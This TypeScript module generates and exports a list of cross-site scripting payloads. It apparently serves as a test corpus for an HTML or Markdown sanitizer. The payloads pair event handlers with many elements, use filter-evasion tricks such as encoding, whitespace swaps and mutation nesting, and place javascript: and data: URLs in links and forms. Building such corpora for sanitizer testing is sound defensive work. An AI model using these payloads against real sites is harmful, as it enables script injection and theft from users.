/** Elements that ask for something, or can be looked at, played, focused, opened. */
const elements = [
  '<img src=x HANDLER>',
  '<img srcset=x HANDLER>',
  '<image href=x HANDLER>',
  '<svg HANDLER>',
  '<svg><image href=x HANDLER /></svg>',
  '<svg><animate attributeName=x dur=1s HANDLER /></svg>',
  '<svg><a xlink:href=x HANDLER><text y=9>x</text></a></svg>',
  '<video src=x HANDLER></video>',
  '<video><source src=x HANDLER></video>',
  '<audio src=x HANDLER></audio>',
  '<iframe src=x HANDLER></iframe>',
  '<object data=x HANDLER></object>',
  '<embed src=x HANDLER>',
  '<body HANDLER>',
  '<details open HANDLER>x</details>',
  '<input autofocus HANDLER>',
  '<select autofocus HANDLER></select>',
  '<textarea autofocus HANDLER></textarea>',
  '<button autofocus HANDLER>x</button>',
  '<a href=x autofocus tabindex=0 HANDLER>x</a>',
  '<p contenteditable autofocus HANDLER>x</p>',
  '<marquee HANDLER>x</marquee>',
  '<style HANDLER>x{}</style>',
  '<link rel=stylesheet href=x HANDLER>',
  '<math HANDLER><mi>x</mi></math>',
  '<table HANDLER><tr><td>x</td></tr></table>',
  '<kbd HANDLER style=animation:x>x</kbd>',
]

const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onbegin',
  'onstart',
  'onanimationstart',
  'onloadstart',
  'onpageshow',
  'onpointerenter',
  'onscroll',
  'onbeforescriptexecute',
]

/** Ways around those who look for `<img src=x onerror=RUN>` as it stands. */
const disguises: ((payload: string) => string)[] = [
  (payload) => payload.replaceAll(' ', '/'),
  (payload) => payload.replaceAll(' ', '\t'),
  (payload) => payload.replaceAll(' ', '\f'),
  (payload) => payload.replaceAll(' ', '\n'),
  (payload) => payload.toUpperCase().replaceAll('RUN', 'run'),
  (payload) => payload.replaceAll('=run', '="run"'),
  (payload) => payload.replaceAll('=run', "='run'"),
  (payload) => payload.replaceAll('=run', '=`run`'),
  (payload) => payload.replaceAll('=run', '=&#114;un'),
  (payload) => payload.replace('<', '<<'),
  (payload) => `"><b>${payload}`,
  (payload) => `--></code></pre>${payload}`,
  (payload) => `<noscript><p title="</noscript>${payload}"></noscript>`,
  (payload) => `<svg></p><style><a title="</style>${payload}">`,
  (payload) => `<math><mtext><table><mglyph><style><!--</style><b title="--&gt;${payload}">`,
  (payload) => `<template>${payload}</template>${payload}`,
  (payload) => payload.replace('>', ''),
]

const strong = [
  '<img src=x onerror=run>',
  '<svg onload=run>',
  '<body onload=run>',
  '<details open ontoggle=run>',
  '<video><source onerror=run>',
  '<script>run</script>',
]

/** Addresses that are programs, as they are written and disguised. */
const programs = [
  'javascript:run',
  'JaVaScRiPt:run',
  'javascript&colon;run',
  '&#106;avascript:run',
  '&#x6a;avascript:run',
  'java&Tab;script:run',
  'java&NewLine;script:run',
  '&#1;javascript:run',
  'javascript://%0arun',
  'vbscript:run',
  'data:text/html,<script>run</script>',
  'data:text/html;base64,PHNjcmlwdD5ydW48L3NjcmlwdD4=',
]

/** Where an address may stand. */
const places: ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}> "t")`,
  (address) => `<${address}>`,
  (address) => `![x](${address})`,
  (address) => `[x]: ${address}\n\n[x]`,
  (address) => `<a href="${address}">x</a>`,
  (address) => `<img src="${address}">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><input type=submit></form>`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>x</text></a></svg>`,
]

/** Every payload is HTML or Markdown in which `run` would be executed, or be once a link is followed. */
export const payloads: readonly string[] = unique([
  ...elements.flatMap((element) =>
    handlers.map((handler) => element.replace('HANDLER', `${handler}=run`)),
  ),
  ...strong.flatMap((payload) => disguises.map((disguise) => disguise(payload))),
  ...programs.flatMap((program) => places.map((place) => place(program))),
])

/** Some disguises change nothing of some payloads. */
function unique(some: readonly string[]): string[] {
  return [...new Set(some)]
}
